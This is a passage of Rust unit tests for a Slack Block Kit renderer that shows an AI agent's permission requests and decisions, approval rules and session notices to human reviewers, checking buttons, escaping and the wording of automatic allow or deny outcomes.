        blocks_parse(&body);
        let snippet = snippet.expect("snippet");
        assert_eq!(snippet.content, diff);
        assert_eq!(snippet.filename, "req-1.diff");
        assert!(
            !serde_json::to_string(&body.blocks)
                .expect("json")
                .contains("```")
        );
    }

    #[test]
    fn closed_requests_lose_their_buttons_and_say_what_happened() {
        let r = request(None, RequestKind::Permission);
        let d = Decision {
            option_id: "reject-once".into(),
            approved: false,
            reason: Some("use <tmp>".into()),
            decided_by: "U9".into(),
            decided_at: 0,
        };
        let body = BlockKit.request_closed(&r, RequestStatus::Decided, Some(&d));
        blocks_parse(&body);
        let all = serde_json::to_string(&body.blocks).expect("json");
        assert!(!all.contains("\"actions\""), "{all}");
        assert!(
            all.contains("reject-once") && all.contains("<@U9>") && all.contains("use &lt;tmp&gt;")
        );
        for status in [RequestStatus::Expired, RequestStatus::Cancelled] {
            let body = BlockKit.request_closed(&r, status, None);
            let all = serde_json::to_string(&body.blocks).expect("json");
            assert!(all.to_lowercase().contains(status.as_str()), "{all}");
        }
    }

    #[test]
    fn always_decisions_offer_to_remember_and_automatic_ones_say_so() {
        let r = request(None, RequestKind::Permission);
        let d = |option: &str, by: &str, approved| Decision {
            option_id: option.into(),
            approved,
            reason: Some("allowed by rule r-1".into()),
            decided_by: by.into(),
            decided_at: 0,
        };
        let body = BlockKit.request_closed(
            &r,
            RequestStatus::Decided,
            Some(&d("allow-always", "U9", true)),
        );
        blocks_parse(&body);
        let ids: Vec<String> = body
            .blocks
            .iter()
            .filter(|b| b["type"] == "actions")
            .flat_map(|b| b["elements"].as_array().cloned().unwrap_or_default())
            .map(|e| {
                format!(
                    "{}={}",
                    e["action_id"].as_str().unwrap_or(""),
                    e["value"].as_str().unwrap_or("")
                )
            })
            .collect();
        assert_eq!(
            ids,
            vec!["remember:session=s-1:req-1", "remember:workspace=s-1:req-1"]
        );
        for (option, approved) in [("allow-once", true), ("reject-once", false)] {
            let body = BlockKit.request_closed(
                &r,
                RequestStatus::Decided,
                Some(&d(option, "U9", approved)),
            );
            assert!(
                !serde_json::to_string(&body.blocks)
                    .expect("json")
                    .contains("actions")
            );
        }
        // Automatic decisions: no offer, and who decided reads as a rule or a mode.
        let body = BlockKit.request_closed(
            &r,
            RequestStatus::Decided,
            Some(&d("allow-always", "rule:r-1", true)),
        );
        blocks_parse(&body);
        let all = serde_json::to_string(&body.blocks).expect("json");
        assert!(
            all.contains("Allowed automatically* by rule `r-1`"),
            "{all}"
        );
        assert!(!all.contains("actions"), "{all}");
        let body = BlockKit.request_closed(
            &r,
            RequestStatus::Decided,
            Some(&d("reject-once", "mode:auto", false)),
        );
        let all = serde_json::to_string(&body.blocks).expect("json");
        assert!(
            all.contains("Denied automatically* by mode `auto`"),
            "{all}"
        );
    }

    #[test]
    fn rules_are_listed_with_scope_match_action_and_source() {
        let rules = vec![
            (
                Rule {
                    id: "cfg-0".into(),
                    scope: Scope::Global,
                    matcher: RuleMatch {
                        kind: Some("read".into()),
                        ..RuleMatch::default()
                    },
                    action: RuleAction::Allow,
                },
                CONFIG_SOURCE.to_owned(),
            ),
            (
                Rule {
                    id: "r-1".into(),
                    scope: Scope::Session(SessionId::from("s-1")),
                    matcher: RuleMatch {
                        kind: Some("execute".into()),
                        command_prefix: Some("rm <x>".into()),
                        ..RuleMatch::default()
                    },
                    action: RuleAction::Deny,
                },
                "U9".to_owned(),
            ),
        ];
        let text = rule_list(&rules).text;
        assert!(
            text.contains("`cfg-0` · every session · kind `read` · *allow* · config file"),
            "{text}"
        );
        assert!(
            text.contains("`r-1` · session `s-1` · kind `execute`, commands starting with `rm &lt;x&gt;` · *deny* · by <@U9>"),
            "{text}"
        );
        assert!(rule_list(&[]).text.contains("No approval rules"));
    }

    #[test]
    fn forwarded_prompts_offer_continue_refine_stop() {
        let mut r = request(None, RequestKind::ForwardedPrompt);
        r.options = ["continue", "refine", "stop"]
            .iter()
            .map(|id| PermissionOption {
                id: (*id).into(),
                name: (*id).into(),
                kind: if *id == "stop" {
                    OptionKind::RejectOnce
                } else {
                    OptionKind::AllowOnce
                },
            })
            .collect();
        let (body, _) = BlockKit.request(&r);
        blocks_parse(&body);
        let actions = body
            .blocks
            .iter()
            .find(|b| b["type"] == "actions")
            .expect("actions");
        let els = actions["elements"].as_array().expect("elements");
        assert_eq!(els.len(), 3);
        assert_eq!(els[1]["action_id"], "feedback");
        assert_eq!(els[2]["style"], "danger");
    }

    #[test]
    fn other_messages_parse_as_block_kit() {
        for body in [
            BlockKit.tool_call("Run tests", "in_progress"),
            BlockKit.plan(&[
                ("a".into(), "completed".into()),
                ("b".into(), "pending".into()),
            ]),
            BlockKit.notice(
                NoticeLevel::Error,
                "agent exited (exit code 1); stderr: boom",
            ),
            BlockKit.stalled(&SessionId::from("s-1"), Some("no activity")),
            BlockKit.ended(SessionStatus::Completed, Some("idle_timeout")),
        ] {
            blocks_parse(&body);
        }
        let modal = feedback_modal(&request(None, RequestKind::Permission), "{}");
        let parsed: Result<SlackView, _> = serde_json::from_value(modal.clone());
        assert!(parsed.is_ok(), "{:?} {modal}", parsed.err());
    }

    #[test]
    fn button_values_and_global_ids_parse_back() {
        assert_eq!(
            parse_choice("s-1:req-2|allow-once"),
            Some(("s-1:req-2".into(), "allow-once".into()))
        );
        assert_eq!(
            split_global("s-1:req-2"),
            Some((SessionId::from("s-1"), "req-2".into()))
        );
        assert_eq!(parse_choice("nothing"), None);
    }
}
